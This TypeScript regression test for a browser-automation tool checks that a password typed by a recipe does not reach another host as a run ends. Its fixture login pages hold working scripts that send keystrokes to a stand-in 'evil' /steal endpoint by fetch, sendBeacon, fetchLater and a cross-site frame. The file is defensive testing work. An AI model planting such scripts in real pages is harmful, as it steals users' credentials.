// A recipe's typed secret does not leave as the run ends: its call path counts in the backstop's taint until the
// run's tab is gone, and the tab is silenced before it closes (recipes/runRecipe.ts liveRun, RecipePage.close).
// Found by an attack review: the path stopped counting before the screenshot and the tab's closing, so a login page
// that kept the password and kept trying to send it to another host got it out while the screenshot was taken, while
// a failed run's screenshot was taken, and (in the user's Chrome) through its pagehide beacon. Assertions on what
// the other host received.
// In the user's Chrome, the request the dying tab hands the browser (a fetchLater registered with the password, in
// the page or in a cross-site frame it told the password) could be held at the tab's hook as the tab closed, kept by
// Chromium, and paused at the browser-wide gate only as the gate let go, after the run's taint had stopped counting:
// the page's went out every time, the frame's never did (browser/browserFetchGate.ts refuses a closed agent tab's
// requests).

import assert from 'node:assert/strict';
import { mkdtempSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { after, before, test } from 'node:test';
import { startUserChrome, type UserChrome } from '../../src/demo/yourChrome.ts';
import { type Fixture, html, startFixture, testChromeArgs } from '../helpers/fixtureServer.ts';
import { runCli } from '../helpers/runCli.ts';

let site: Fixture;
let evil: Fixture;
let chrome: UserChrome;
const home = mkdtempSync(join(tmpdir(), 'tabward-runend-'));
const secrets = join(home, 'secrets.env');
const password = 'hunter22-runend';

before(async () => {
  evil = await startFixture({ '/steal': (_req, _body, res) => html(res, 'ok') });
  const to = `'http://localhost:${evil.port}/steal'`;
  site = await startFixture({
    // A request the browser sends for the page once its renderer is gone, armed with every keystroke.
    '/later': (_req, _body, res) =>
      html(
        res,
        `<title>Sign in</title><input name="password" type="password" aria-label="Password"><p id="ready">ready</p>
        <script>
          document.querySelector('input').addEventListener('input', (e) => fetchLater(${to} + '?how=later&v=' + encodeURIComponent(e.target.value), { activateAfter: 600000 }));
        </script>`,
      ),
    // The same from a cross-site frame (a process of its own) the page tells the password.
    '/later-frame': (_req, _body, res) =>
      html(
        res,
        `<title>Sign in</title><input name="password" type="password" aria-label="Password"><p id="ready">ready</p>
        <iframe src="${site.url('widgets.example', '/armed')}"></iframe>
        <script>
          document.querySelector('input').addEventListener('input', (e) => frames[0].postMessage(e.target.value, '*'));
        </script>`,
      ),
    '/armed': (_req, _body, res) =>
      html(
        res,
        `<script>addEventListener('message', (e) => fetchLater(${to} + '?how=frame-later&v=' + encodeURIComponent(e.data), { activateAfter: 600000 }));</script>`,
      ),
    '/login': (_req, _body, res) =>
      html(
        res,
        `<title>Sign in</title><input name="password" type="password" aria-label="Password"><p id="ready">ready</p>
        <script>
          let value = '';
          document.querySelector('input').addEventListener('input', (e) => { value = e.target.value; });
          setInterval(() => { if (value) fetch(${to} + '?how=interval&v=' + encodeURIComponent(value), { mode: 'no-cors', keepalive: true }).catch(() => {}); }, 25);
          addEventListener('pagehide', () => { if (value) navigator.sendBeacon(${to} + '?how=pagehide&v=' + encodeURIComponent(value), 'x'); });
        </script>`,
      ),
  });
  writeFileSync(secrets, `LOGIN_PASSWORD=${password}\n`);
  chrome = await startUserChrome({ chromeArgs: testChromeArgs });
});

after(async () => {
  await chrome?.close();
  await site?.close();
  await evil?.close();
});

const pages = {
  plain: '/login',
  screenshot: '/login',
  failing: '/login',
  shared: '/login',
  later: '/later',
  laterInFrame: '/later-frame',
};
/** Run in the user's Chrome rather than an isolated browser of tabward's. */
const inUsersChrome = new Set(['shared', 'later', 'laterInFrame']);

for (const variant of Object.keys(pages) as (keyof typeof pages)[])
  test(`a recipe's typed secret does not leave as the run ends (${variant})`, async () => {
    const before = evil.seen.length;
    const recipe = join(home, `login-${variant}.json`);
    writeFileSync(
      recipe,
      JSON.stringify({
        version: 1,
        name: 'Sign in',
        url: site.url('127.0.0.1', pages[variant]),
        steps: [
          { action: 'type', selector: 'input[name=password]', secret: 'LOGIN_PASSWORD' },
          variant === 'failing'
            ? { action: 'waitFor', selector: '#never', timeoutMs: 1_000 }
            : { action: 'waitFor', selector: '#ready' },
        ],
        extract: { fields: { greeting: '#ready' } },
      }),
    );
    const args = ['run', recipe, '--secrets', secrets];
    if (variant === 'screenshot') args.push('--screenshot', join(home, 'shot.png'));
    if (inUsersChrome.has(variant)) args.push('--shared', '--ws-endpoint', chrome.wsEndpoint);
    const result = await runCli(args, { TABWARD_HOME: home });
    assert.equal(result.code, variant === 'failing' ? 1 : 0, result.stderr);
    await new Promise((resolve) => setTimeout(resolve, 1_000));
    const got = evil.seen.slice(before).filter((request) => request.path.includes(password));
    assert.deepEqual(
      got.map((request) => `${request.method} ${request.host}${request.path}`),
      [],
      'the typed password reached another host',
    );
  });
